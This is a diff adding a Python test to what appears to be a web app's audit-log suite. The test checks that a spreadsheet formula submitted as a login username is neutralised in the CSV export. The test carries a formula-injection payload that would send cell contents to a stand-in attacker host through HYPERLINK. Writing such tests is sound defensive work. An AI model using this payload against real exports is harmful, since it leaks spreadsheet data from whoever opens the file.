@@ -124,3 +124,19 @@ def test_reading_a_submission_and_downloading_its_report_are_audited(workspace):
         ("clerk", "export", str(submission.pk)),
     ]
     assert recorded[0].detail == {"problems": 1}
+
+
+def test_a_formula_as_sign_in_name_reaches_the_audit_csv_as_text_and_still_verifies(
+    steward, tmp_path
+):
+    """An anonymous visitor picks the name; the steward opens the export in a spreadsheet."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    Client().post("/login/", {"username": formula, "password": "wrong"})
+    response = steward.get("/governance/audit.csv", {"action": "login_failed"})
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    header, cells = rows[0], rows[-1]
+    assert cells[header.index("object_id")] == "'" + formula
+    assert not any(c.startswith(("=", "+", "@")) for row in rows for c in row)
+    path = tmp_path / "audit.csv"
+    services.export_file(path)  # the whole log, with the visitor's name in it, verifies
+    assert services.verify_file(path).ok
